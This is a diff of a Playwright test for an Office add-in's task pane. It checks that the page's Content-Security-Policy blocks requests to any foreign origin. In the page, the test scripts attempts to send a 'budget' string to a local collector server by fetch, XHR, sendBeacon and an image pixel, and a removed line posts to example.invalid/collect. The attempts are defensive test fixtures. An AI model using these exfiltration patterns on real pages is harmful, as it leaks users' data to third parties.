@@ -1,8 +1,14 @@
 // Private by construction: the production add-in page, loaded in real Chromium, requests nothing
 // but its own origin, and its Content-Security-Policy refuses anything else. The production
 // bundle holds no preview engine (HyperFormula is GPL-3.0 and preview-only).
+//
+// The refusal is seen as the browser reports it: a securitypolicyviolation event in the page and
+// a console message naming the address and the directive for each attempt, while a second
+// loopback server, another origin that would answer every request, receives none of them.
 
 import { readFileSync, readdirSync } from "node:fs";
+import { createServer, type Server } from "node:http";
+import type { AddressInfo } from "node:net";
 import path from "node:path";
 import type { Browser } from "playwright-core";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
@@ -10,46 +16,126 @@ import { launch, serve } from "./browser";
 
 const DIST = path.resolve("dist");
 let server: Awaited<ReturnType<typeof serve>>;
+let outside: { url: string; received: string[]; close: () => Promise<void> };
 let browser: Browser;
+
+/** Another origin on loopback that answers everything and remembers what reached it. */
+async function collector(): Promise<typeof outside> {
+  const received: string[] = [];
+  const http: Server = createServer((req, res) => {
+    received.push(`${req.method} ${req.url}`);
+    res.writeHead(200, { "Access-Control-Allow-Origin": "*", "Content-Type": "text/plain" });
+    res.end("collected");
+  });
+  await new Promise<void>((resolve) => http.listen(0, "127.0.0.1", resolve));
+  const { port } = http.address() as AddressInfo;
+  return {
+    url: `http://127.0.0.1:${port}`,
+    received,
+    close: () => new Promise<void>((resolve) => http.close(() => resolve())),
+  };
+}
+
+interface Violation {
+  directive: string;
+  blockedURI: string;
+}
+
+/** The page's window, with the violations it has reported so far. */
+type Recording = Window & { violations?: Violation[] };
 
 beforeAll(async () => {
   server = await serve(DIST);
+  outside = await collector();
   browser = await launch();
 });
 
 afterAll(async () => {
   await browser?.close();
+  await outside?.close();
   await server?.close();
 });
 
 describe("the production add-in", () => {
-  it("loads the task pane with every request to its own origin and no policy violation", async () => {
+  it("loads the task pane with every request to its own origin and refuses every other origin", async () => {
     const page = await browser.newPage();
     const requests: string[] = [];
-    const violations: string[] = [];
+    const refusals: string[] = [];
     page.on("request", (request) => requests.push(request.url()));
+    const failures = new Map<string, string | undefined>();
+    page.on("requestfailed", (request) => failures.set(request.url(), request.failure()?.errorText));
     page.on("console", (message) => {
-      if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
+      if (/Content Security Policy/i.test(message.text())) refusals.push(message.text());
+    });
+    await page.addInitScript(() => {
+      const violations: Violation[] = [];
+      (window as Recording).violations = violations;
+      document.addEventListener("securitypolicyviolation", (event) =>
+        violations.push({ directive: event.effectiveDirective, blockedURI: event.blockedURI }),
+      );
     });
     await page.goto(`${server.url}/taskpane.html`);
     await page.waitForLoadState("networkidle");
-    // a page script that tries to send data elsewhere is refused by the policy
-    const blocked = await page.evaluate(async () => {
-      try {
-        await fetch("https://example.invalid/collect", { method: "POST", body: "budget" });
-        return false;
-      } catch {
-        return true;
-      }
-    });
-    expect(blocked).toBe(true);
+
+    // a page script that tries to send data elsewhere, in four ways
+    const sameOrigin = await page.evaluate(async (to) => {
+      await fetch(`${to}/fetch`, { method: "POST", body: "budget" }).catch(() => undefined);
+      await new Promise<void>((resolve) => {
+        const request = new XMLHttpRequest();
+        request.onloadend = () => resolve();
+        try {
+          request.open("POST", `${to}/xhr`);
+          request.send("budget");
+        } catch {
+          resolve();
+        }
+      });
+      navigator.sendBeacon(`${to}/beacon`, "budget");
+      await new Promise<void>((resolve) => {
+        const image = new Image();
+        image.onload = image.onerror = () => resolve();
+        image.src = `${to}/image.png?budget`;
+      });
+      // while the add-in's own origin answers as ever
+      const own = await fetch("functions.json");
+      return own.status;
+    }, outside.url);
+    expect(sameOrigin).toBe(200);
+
+    // each is refused by the directive for its kind of request, and so is the frame that
+    // Office.js, outside an Office client, opens to Microsoft's telemetry service 3 s after it
+    // loads; Chromium reports each in the page and logs it naming the address and the directive.
+    // Besides, zod (in each bundle) probes whether it may compile its validators with new
+    // Function: script-src 'self' has no 'unsafe-eval', so it validates without; the probe
+    // catches the error, and Chromium logs nothing.
+    const EVAL_PROBE: Violation = { directive: "script-src", blockedURI: "eval" };
+    const refused: [Violation, string][] = [
+      [{ directive: "connect-src", blockedURI: `${outside.url}/fetch` }, "connect-src 'self'"],
+      [{ directive: "connect-src", blockedURI: `${outside.url}/xhr` }, "connect-src 'self'"],
+      [{ directive: "connect-src", blockedURI: `${outside.url}/beacon` }, "connect-src 'self'"],
+      [{ directive: "img-src", blockedURI: `${outside.url}/image.png?budget` }, "img-src 'self' data:"],
+      [{ directive: "frame-src", blockedURI: "https://telemetryservice.firstpartyapps.oaspapps.com" }, "default-src 'self'"],
+    ];
+    const byURI = (a: Violation, b: Violation) => a.blockedURI.localeCompare(b.blockedURI);
+    await expect
+      .poll(async () => (await page.evaluate(() => (window as Recording).violations ?? [])).sort(byURI), { timeout: 10_000 })
+      .toEqual([EVAL_PROBE, EVAL_PROBE, ...refused.map(([violation]) => violation)].sort(byURI));
+    const logged = ([{ blockedURI }, policy]: [Violation, string]) =>
+      refusals.some((text) => text.includes(blockedURI) && text.includes(`directive: "${policy}"`));
+    await expect.poll(() => refused.filter(logged).length, { timeout: 5_000 }).toBe(refused.length);
+    // and it logs no refusal of anything else
+    const unexplained = refusals.filter((text) => !refused.some(([{ blockedURI }]) => text.includes(blockedURI)));
+    expect(unexplained).toEqual([]);
+
+    // the policy stops each attempt before it leaves the page: the other origin hears nothing,
+    // and what Chromium began to request there (the XHR and the image) failed on the policy
+    expect(outside.received).toEqual([]);
     const foreign = requests.filter((url) => !url.startsWith(server.url) && !url.startsWith("data:"));
-    // the policy stops the attempt before it leaves the page: not even a request is made
-    expect(foreign).toEqual([]);
+    expect(foreign.map((url) => failures.get(url))).toEqual(foreign.map(() => "csp"));
     expect(requests.some((url) => url.endsWith("/office-js/office.js"))).toBe(true);
     expect(requests.some((url) => url.endsWith("/taskpane.js"))).toBe(true);
     expect(requests.some((url) => url.endsWith("/functions.js"))).toBe(true);
-    expect(violations.filter((v) => !v.includes("example.invalid"))).toEqual([]);
+    expect(requests.some((url) => url.endsWith("/functions.json"))).toBe(true);
     await page.close();
   });
 
